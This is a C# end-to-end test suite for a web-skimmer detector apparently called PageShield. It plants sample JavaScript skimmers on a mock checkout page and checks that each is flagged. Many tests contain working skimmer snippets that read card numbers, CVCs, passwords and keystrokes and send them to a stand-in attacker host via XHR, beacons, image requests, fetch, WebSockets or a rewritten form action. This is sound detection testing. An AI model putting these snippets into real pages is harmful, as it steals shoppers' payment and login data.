using PageShield.Crawls;
using PageShield.Crawls.Captures;

namespace PageShield.EndToEndTests.Crawls;

/// <summary>Skimmers of our own on a checkout page: what they send is found, and the shop gets nothing.</summary>
public sealed class CanaryTests(ChromiumFixture chromium) : IAsyncLifetime
{
    private const string Checkout = """
        <title>Checkout</title><form id="pay" action="/order" method="post">
        <input name="email" type="email"><input name="holder" autocomplete="cc-name"><input name="cardnumber" autocomplete="cc-number">
        <input name="exp" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc"><input type="password" name="password"><button>Pay now</button></form>
        <script src="http://cdn.localhost:PORT/tag.js"></script>
        """;

    private FixtureSite _site = null!; // set before each test

    public async ValueTask InitializeAsync() => _site = await FixtureSite.StartAsync();

    public ValueTask DisposeAsync() => _site.DisposeAsync();

    private async Task<Capture> CrawlAsync(string skimmer, string html = Checkout)
    {
        _site.Html("shop.localhost/checkout", html)
            .Script("cdn.localhost/tag.js", skimmer.Replace("EVIL", $"http://evil.localhost:{_site.Port}", StringComparison.Ordinal));
        var capture = await chromium.Crawler.CrawlOneAsync(_site.Plan(["shop.localhost/checkout"], "cdn.localhost", "evil.localhost"));
        foreach (var finding in capture.Findings) TestContext.Current.TestOutputHelper?.WriteLine(finding.ToString());
        TestContext.Current.TestOutputHelper?.WriteLine(capture.Describe());
        return capture;
    }

    /// <summary>The shop's server has seen the page and its code, and no order.</summary>
    private void AssertNoOrder() =>
        Assert.DoesNotContain(_site.Log, static entry => entry.Target.StartsWith("shop.localhost/order", StringComparison.Ordinal));

    [Theory]
    [InlineData("xhr", "addEventListener('submit', () => { const x = new XMLHttpRequest(); x.open('POST', 'EVIL/c'); x.send(btoa(document.forms[0].cardnumber.value)); }, true)")]
    [InlineData("beacon", "document.querySelector('button').addEventListener('click', () => navigator.sendBeacon('EVIL/c', [...document.forms[0].cardnumber.value].reverse().join('')))")]
    [InlineData("timer",
        "setInterval(() => { const v = document.forms[0].cardnumber.value; if (v.length > 15) new Image().src = 'EVIL/t?' + v; }, 300)")]
    [InlineData("keys", "let k = ''; addEventListener('keydown', e => { k += e.key; }, true); addEventListener('submit', () => navigator.sendBeacon('EVIL/k', k), true)")]
    public async Task A_card_number_that_leaves_is_a_finding_with_its_script(string channel, string skimmer)
    {
        var capture = await CrawlAsync(skimmer);

        var tag = Assert.Single(capture.Scripts, static script => script.Url.EndsWith("/tag.js", StringComparison.Ordinal));
        var finding =
            Assert.Single(capture.Findings,
            static finding => finding.Rule == "canary-exfiltration" && finding.Evidence.Contains("cc-number", StringComparison.Ordinal));
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains("evil.localhost", finding.Title, StringComparison.Ordinal);
        Assert.True(finding.Script == tag.Id, channel);
        AssertNoOrder();
    }

    [Fact]
    public async Task Every_encoding_is_seen_through()
    {
        var cells = CanaryMatrix.Cells(["fetch"], CanaryMatrix.Encodings.Select(static encoding => encoding.Name));

        var capture = await chromium.Crawler.CrawlOneAsync(CanaryMatrix.Serve(_site, cells));

        foreach (var finding in capture.Findings) TestContext.Current.TestOutputHelper?.WriteLine(finding.ToString());
        Assert.Empty(CanaryMatrix.Missed(capture, cells));
        Assert.All(capture.Findings, finding => Assert.Equal(_site.Url("shop.localhost/skimmer.js"), capture.Scripts[(finding.Script ?? 1) - 1].Url));
    }

    [Fact]
    public async Task Every_channel_is_watched()
    {
        var cells = CanaryMatrix.Cells(CanaryMatrix.Channels.Select(static channel => channel.Name), ["base64"]);

        var capture = await chromium.Crawler.CrawlOneAsync(CanaryMatrix.Serve(_site, cells));

        foreach (var finding in capture.Findings) TestContext.Current.TestOutputHelper?.WriteLine(finding.ToString());
        Assert.Empty(CanaryMatrix.Missed(capture, cells));
        AssertNoOrder();
    }

    [Fact]
    public async Task Keys_sent_one_by_one_are_put_together()
    {
        var capture = await CrawlAsync("document.forms[0].cardnumber.addEventListener('keydown', e => { new Image().src = 'EVIL/k.gif?k=' + e.key + '&t=' + performance.now(); });");

        var finding = Assert.Single(capture.Findings, static finding => finding.Rule == "canary-exfiltration");
        Assert.Contains("put together", finding.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Every_payment_and_login_field_is_watched()
    {
        string[] fields = ["cvc", "exp", "holder", "password", "email"];

        var capture = await CrawlAsync(string.Concat(fields.Select(static field => $"addEventListener('submit', () => {{ fetch('EVIL/{field}?x=' + encodeURIComponent(document.forms[0].{field}.value), {{ mode: 'no-cors' }}); }}, true);")));

        var titles = capture.Findings.Where(static finding => finding.Rule == "canary-exfiltration").Select(static finding => finding.Title).ToList();
        Assert.Equal(fields.Length, titles.Count);
        foreach (var words in new[] { "security code", "expiry date", "card holder's name", "password", "e-mail address" })
            Assert.Single(titles, title => title.Contains(words, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("value", "const v = document.forms[0].cardnumber.value;")]
    [InlineData("form-data", "const v = new FormData(document.forms[0]).get('cardnumber');")]
    [InlineData("value", "const v = document.querySelector('[name=cardnumber]')['val' + 'ue'];")]
    public async Task Encrypted_data_is_linked_to_the_script_that_read_the_field_and_then_spoke_to_a_new_host(string how, string reading)
    {
        var capture = await CrawlAsync($$"""
            addEventListener('submit', async () => {
              {{reading}}
              const key = crypto.getRandomValues(new Uint8Array(64));
              const secret = Uint8Array.from(v, (c, i) => c.charCodeAt(0) ^ key[i]);
              await null;
              setTimeout(() => navigator.sendBeacon('EVIL/m', secret), 10);
            }, true);
            """);

        var tag = Assert.Single(capture.Scripts, static script => script.Url.EndsWith("/tag.js", StringComparison.Ordinal));
        var finding = Assert.Single(capture.Findings);
        Assert.Equal(("field-read-then-sent", tag.Id), (finding.Rule, finding.Script));
        Assert.Contains("evil.localhost", finding.Title, StringComparison.Ordinal);
        Assert.Contains(capture.FieldReads, read => read.Script == tag.Id && read.Purpose == "cc-number" && read.How == how);
    }

    [Fact]
    public async Task Keys_that_are_read_are_told()
    {
        var capture = await CrawlAsync("addEventListener('keydown', e => { window.last = e.key; }, true);");

        var tag = Assert.Single(capture.Scripts, static script => script.Url.EndsWith("/tag.js", StringComparison.Ordinal));
        Assert.Contains(capture.FieldReads, read => read.Script == tag.Id && read is { Purpose: "cc-number", How: "keys" });
        Assert.Contains(capture.ApiUses, use => use is { Api: "listener", Detail: "keydown" } && use.Script == tag.Id);
        Assert.Empty(capture.Findings);
    }

    [Fact]
    public async Task A_socket_that_was_open_before_and_then_carries_more_is_told()
    {
        _site.Answer("evil.localhost/s", static async context =>
        {
            using var socket = await context.WebSockets.AcceptWebSocketAsync();
            await socket.ReceiveAsync(new byte[100], context.RequestAborted);
        });

        var capture = await CrawlAsync("const w = new WebSocket('EVIL/s'.replace('http', 'ws')); addEventListener('submit', () => w.send(Uint8Array.from(document.forms[0].cardnumber.value, c => c.charCodeAt(0) * 7 % 251)), true);");

        Assert.Contains(capture.Connections, static connection => connection.Type == ConnectionType.Websocket && connection.Host == "evil.localhost");
        Assert.Equal("field-read-then-sent", Assert.Single(capture.Findings).Rule);
    }

    [Fact]
    public async Task Data_that_goes_where_the_served_form_points_or_to_a_payment_host_is_no_finding()
    {
        _site.Html("shop.localhost/checkout", Checkout.Replace("/order", "http://pay.localhost:PORT/order", StringComparison.Ordinal))
            .Script("cdn.localhost/tag.js", """
            addEventListener('submit', e => { e.preventDefault(); for (const host of ['pay', 'processor']) fetch(`http://${host}.localhost:PORT/c`, { method: 'POST', mode: 'no-cors', body: document.forms[0].cardnumber.value }); }, true);
            """);
        var plan = _site.Plan(["shop.localhost/checkout"], "cdn.localhost", "pay.localhost", "processor.localhost");

        var allowed = await chromium.Crawler.CrawlOneAsync(plan with { PaymentHosts = ["processor.localhost"] });
        var unknown = await chromium.Crawler.CrawlOneAsync(plan);

        Assert.Empty(allowed.Findings);
        Assert.Contains("processor.localhost", Assert.Single(unknown.Findings).Title, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_form_that_is_pointed_elsewhere_is_a_finding_and_sends_nothing()
    {
        var capture = await CrawlAsync("document.forms[0].action = 'EVIL/steal';");

        Assert.Contains(capture.Findings, static finding => finding.Rule == "form-action-changed");
        Assert.Contains(capture.Findings,
            static finding => finding.Rule == "canary-exfiltration" && finding.Title.Contains("evil.localhost", StringComparison.Ordinal));
        Assert.Contains(capture.Connections,
            connection =>
            connection is { Type: ConnectionType.Form, Host: "evil.localhost" } && connection.Initiator == _site.Url("shop.localhost/checkout"));
        Assert.DoesNotContain(_site.Log, static entry => entry.Target.StartsWith("evil.localhost/steal", StringComparison.Ordinal));
    }

    [Fact]
    public async Task An_honest_checkout_has_no_findings_and_places_no_order()
    {
        var capture = await CrawlAsync("""
            document.forms[0].addEventListener('submit', event => { event.preventDefault();
              fetch('/order/api', { method: 'POST', body: new FormData(event.target) }).catch(() => {}); });
            navigator.sendBeacon('EVIL/metrics', JSON.stringify({ page: location.pathname, time: performance.now() }));
            """);

        Assert.Empty(capture.Findings);
        Assert.Equal(PageOutcome.Ok, capture.Outcome);
        AssertNoOrder();
        Assert.Contains(capture.Connections, connection => connection.Url == _site.Url("shop.localhost/order/api") && connection.Method == "POST");
    }

    [Fact]
    public async Task A_page_without_such_fields_is_left_alone()
    {
        var capture =
            await CrawlAsync("addEventListener('input', () => fetch('EVIL/typed'))",
            "<form><input name=q></form><script src='http://cdn.localhost:PORT/tag.js'></script>");

        Assert.DoesNotContain(capture.Connections, static connection => connection.Host == "evil.localhost");
    }
}
